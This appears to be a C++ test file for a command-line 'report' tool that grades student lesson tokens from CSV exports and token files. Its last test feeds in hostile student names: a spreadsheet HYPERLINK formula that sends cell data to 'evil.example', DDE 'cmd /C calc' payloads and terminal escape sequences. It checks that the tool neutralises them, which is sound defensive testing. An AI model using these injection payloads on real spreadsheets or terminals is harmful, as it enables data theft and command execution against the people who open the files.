// perceptron-cli report (issue 28): 30 tokens made by driving a real LessonRun, in a CSV export with a
// token column and as one-token files; the table's counts are known from how each student was driven.
#include "test_temp_path.hpp"
#include <doctest/doctest.h>

#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "commands.hpp"
#include "core/lesson/lesson_result.hpp"
#include "core/lesson/lesson_run.hpp"
#include "options.hpp"

using namespace pl;

namespace {

const std::string kLesson = std::string(PL_TEST_DATA_DIR) + "/result_lesson.json";

// Student i of result_lesson.json: every second one checks step 2 before pressing Step (fails first),
// every third answers the quiz wrong first, every fifth never checks step 4.
std::string student_token(int i, const std::string& lesson_path = kLesson) {
    std::ostringstream text;
    text << std::ifstream(lesson_path).rdbuf();
    const LessonParse parsed = parse_lesson(text.str());
    REQUIRE(parsed.ok);
    Session session;
    LessonRun run;
    run.open(session, parsed.lesson, 0, true);
    REQUIRE(run.go_to(session, 1));
    if (i % 2 == 0) REQUIRE_FALSE(run.check(session).passed);
    session.step();
    REQUIRE(run.check(session).passed);
    REQUIRE(run.go_to(session, 2));
    if (i % 3 == 0) {
        run.choose(0);
        REQUIRE_FALSE(run.check(session).passed);
    }
    run.choose(1);
    REQUIRE(run.check(session).passed);
    REQUIRE(run.go_to(session, 3));
    if (i % 5 != 0) {
        session.train_until_converged();
        REQUIRE(run.check(session).passed);
    }
    return result_token(*lesson_result(run, session));
}

struct Run {
    int code = 0;
    std::string out, err;
};

Run report(std::vector<std::string> words) {
    std::vector<std::string_view> args(words.begin(), words.end());
    std::ostringstream out, err;
    Run r;
    r.code = cli::run_report(args, out, err);
    r.out = out.str();
    r.err = err.str();
    return r;
}

std::vector<std::string> lines(const std::string& text) {
    std::vector<std::string> out;
    std::istringstream in(text);
    for (std::string line; std::getline(in, line);) out.push_back(line);
    return out;
}

// The table's line that starts with `start`, its runs of spaces made one.
std::string row_of(const std::string& text, const std::string& start) {
    for (const std::string& line : lines(text)) {
        if (line.rfind(start, 0) != 0) continue;
        std::string out;
        for (char c : line)
            if (c != ' ' || (!out.empty() && out.back() != ' ')) out += c;
        while (!out.empty() && out.back() == ' ') out.pop_back();
        return out;
    }
    return "";
}

}  // namespace

TEST_CASE("report: 30 students in an LMS export give the right counts, a bad token is one row") {
    const std::filesystem::path dir = pl::test::temp_path("pl_report_test");
    std::filesystem::create_directories(dir);
    const std::string csv_path = (dir / "export.csv").string();
    {
        std::ofstream csv(csv_path, std::ios::binary);
        csv << "id,name,token\r\n";
        for (int i = 0; i < 30; ++i) csv << i << ",\"Student, " << i << "\"," << student_token(i) << "\r\n";
        csv << "99,Mallory,PLR1.bm90IGEgdG9rZW4\r\n";
    }
    const Run text = report({"--lesson", kLesson, csv_path});
    CHECK(text.code == 0);
    CHECK(text.out.find(": 31 results") != std::string::npos);
    CHECK(row_of(text.out, "Student, 0 ") == "Student, 0 2/3 2 3 - 2 2 0");    // i = 0: twice, twice, never
    CHECK(row_of(text.out, "Student, 1 ") == "Student, 1 3/3 2 3 4 - 1 1 1");  // i = 1: once each
    CHECK(row_of(text.out, "Student, 6 ") == "Student, 6 3/3 2 3 4 - 2 2 1");  // i = 6: twice, twice, once
    CHECK(text.out.find("Mallory") != std::string::npos);
    CHECK(text.out.find("bad token: The result token is damaged") != std::string::npos);
    // Step 2: the 15 even students failed first; step 3: the 10 multiples of 3; step 4: nobody.
    const std::size_t step2 = text.out.find("Step 2 \"One step\": 15 of 30");
    const std::size_t step3 = text.out.find("Step 3 \"A question\": 10 of 30");
    CHECK(step2 != std::string::npos);
    CHECK(step3 != std::string::npos);
    CHECK(step2 < step3);  // the step most students failed first comes first
    CHECK(text.out.find("Step 4 \"Train to the end\": 24 checked, 24 passed at the first try, 24 passed") != std::string::npos);
    // The per-step summary (issue 40): the counts by how each student was driven.
    CHECK(text.out.find("Step 2 \"One step\": 30 checked, 15 passed at the first try, 30 passed; median time ") != std::string::npos);
    CHECK(text.out.find("Step 3 \"A question\": 30 checked, 20 passed at the first try, 30 passed; median time ") != std::string::npos);
    CHECK(text.out.find("not passed yet") == std::string::npos);  // everybody who checked passed in the end

    const Run csv = report({"--lesson", kLesson, "--csv", csv_path});
    CHECK(csv.code == 0);
    const std::vector<std::string> rows = lines(csv.out);
    REQUIRE(rows.size() == 32);
    CHECK(rows[0] == "student,raw,max,scoring,passed,steps_passed,attempts_step_1,attempts_step_2,attempts_step_3,attempts_step_4,error");
    CHECK(rows[1] == "\"Student, 0\",2,3,passed,false,2 3,0,2,2,0,");
    CHECK(rows[2] == "\"Student, 1\",3,3,passed,true,2 3 4,0,1,1,1,");
    CHECK(rows[6] == "\"Student, 5\",2,3,passed,false,2 3,0,1,1,0,");
    CHECK(rows[7] == "\"Student, 6\",3,3,passed,true,2 3 4,0,2,2,1,");
    std::size_t passed = 0;
    for (std::size_t r = 1; r <= 30; ++r) passed += rows[r].find(",true,") != std::string::npos;
    CHECK(passed == 24);  // all but the 6 multiples of 5
    CHECK_MESSAGE(rows[31].rfind("Mallory,,,passed,,,,,,,\"The result token is damaged", 0) == 0, rows[31]);

    // One token per file: the student is the file's name.
    const std::string ada = (dir / "ada.txt").string();
    std::ofstream(ada, std::ios::binary) << student_token(1) << "\n";
    const Run files = report({"--lesson", "result-check", ada});
    CHECK(files.code == 2);  // result-check is not built in and no such file: the lesson is bad
    const Run one = report({"--lesson", kLesson, "--csv", ada});
    CHECK(one.code == 0);
    CHECK(lines(one.out).at(1) == "ada,3,3,passed,true,2 3 4,0,1,1,1,");
    const Run missing = report({"--lesson", kLesson, (dir / "nobody.txt").string()});
    CHECK(missing.code == 2);
    CHECK(missing.err.find("cannot be read") != std::string::npos);
    std::filesystem::remove_all(dir);
}

TEST_CASE("report: the students who have not passed a step are listed by their last answer, most common first") {
    std::ostringstream text;
    text << std::ifstream(kLesson).rdbuf();
    const LessonParse parsed = parse_lesson(text.str());
    REQUIRE(parsed.ok);
    const auto token = [&](int answer, bool again) {  // answers the quiz (step 3), again: once more with "that"
        Session session;
        LessonRun run;
        run.open(session, parsed.lesson, 0, true);
        REQUIRE(run.go_to(session, 2));
        run.choose(static_cast<std::size_t>(answer));
        run.check(session);
        if (again) {
            run.choose(1);
            REQUIRE(run.check(session).passed);
        }
        return result_token(*lesson_result(run, session));
    };
    const std::filesystem::path dir = pl::test::temp_path("pl_report_answers");
    std::filesystem::create_directories(dir);
    const std::string csv_path = (dir / "export.csv").string();
    {
        std::ofstream csv(csv_path, std::ios::binary);
        csv << "name,token\n";
        csv << "a," << token(0, false) << "\n" << "b," << token(0, false) << "\n" << "c," << token(0, true) << "\n"
            << "d," << token(1, false) << "\n";
    }
    const Run r = report({"--lesson", kLesson, csv_path});
    CHECK(r.code == 0);
    CHECK_MESSAGE(r.out.find("Step 3 \"A question\": 4 checked, 1 passed at the first try, 2 passed; median time ") != std::string::npos, r.out);
    CHECK_MESSAGE(r.out.find("    not passed yet, their last answers: \"this\" x2\n") != std::string::npos, r.out);
    std::filesystem::remove_all(dir);
}

TEST_CASE("report: a first-try lesson says so, scores the first tries and names its rule in the CSV") {
    const std::string lesson = std::string(PL_TEST_DATA_DIR) + "/result_lesson_first_try.json";
    const std::filesystem::path dir = pl::test::temp_path("pl_report_first_try");
    std::filesystem::create_directories(dir);
    // Student 1 passes everything at once; student 2 fails step 2 first; student 6 fails steps 2 and 3 first.
    for (int i : {1, 2, 6}) std::ofstream((dir / ("s" + std::to_string(i) + ".txt")).string(), std::ios::binary) << student_token(i, lesson);
    const Run text = report({"--lesson", lesson, (dir / "s1.txt").string(), (dir / "s2.txt").string(), (dir / "s6.txt").string()});
    CHECK(text.code == 0);
    CHECK(lines(text.out).at(1) == "Scored at the first try: a step counts only when its first check passed.");
    CHECK(row_of(text.out, "s1 ") == "s1 3/3 2 3 4 - 1 1 1");
    CHECK(row_of(text.out, "s2 ") == "s2 2/3 2 3 4 - 2 1 1");
    CHECK(row_of(text.out, "s6 ") == "s6 1/3 2 3 4 - 2 2 1");
    const Run csv = report({"--lesson", lesson, "--csv", (dir / "s6.txt").string()});
    CHECK(lines(csv.out).at(1) == "s6,1,3,first-try,true,2 3 4,0,2,2,1,");
    std::filesystem::remove_all(dir);
}

TEST_CASE("report: hostile names open as text in a spreadsheet and never reach the terminal raw") {
    const std::filesystem::path dir = pl::test::temp_path("pl_report_hostile");
    std::filesystem::remove_all(dir);
    std::filesystem::create_directories(dir);
    const std::string csv_path = (dir / "export.csv").string();
    {
        std::ofstream csv(csv_path, std::ios::binary);
        csv << "name,token\n";
        csv << "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"," << student_token(1) << "\n";
        csv << "+cmd|' /C calc'!A0," << student_token(2) << "\n";
        csv << "@SUM(1+1)*cmd|' /C calc'!A0,PLR1.bm90IGEgdG9rZW4\n";  // a bad token: still a neutral row
        csv << "\x1b]0;pwned\x07\x1b[2J," << student_token(3) << "\n";
    }
    const std::string named = (dir / "=1+1.txt").string();  // a token file whose name is a formula
    std::ofstream(named, std::ios::binary) << student_token(1);

    const Run csv = report({"--lesson", kLesson, "--csv", csv_path, named});
    CHECK(csv.code == 0);
    const std::vector<std::string> rows = lines(csv.out);
    REQUIRE(rows.size() == 6);
    CHECK(rows[1].rfind("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",", 0) == 0);
    CHECK(rows[2].rfind("'+cmd|' /C calc'!A0,", 0) == 0);
    CHECK(rows[3].rfind("'@SUM(1+1)*cmd|' /C calc'!A0,,,passed,,", 0) == 0);
    CHECK(rows[4].rfind("\\x1B]0;pwned\\x07\\x1B[2J,", 0) == 0);
    CHECK(rows[5].rfind("'=1+1,", 0) == 0);
    for (const std::string& row : rows) {
        const bool formula_cell = !row.empty() && (row[0] == '=' || row[0] == '+' || row[0] == '@' || row[0] == '-');
        CHECK_MESSAGE(!formula_cell, row);
    }
    CHECK(csv.out.find('\x1b') == std::string::npos);

    const Run text = report({"--lesson", kLesson, csv_path});
    CHECK(text.code == 0);
    CHECK(text.out.find('\x1b') == std::string::npos);
    CHECK(text.out.find('\x07') == std::string::npos);
    CHECK(text.out.find("\\x1B]0;pwned\\x07\\x1B[2J") != std::string::npos);
    std::filesystem::remove_all(dir);
}
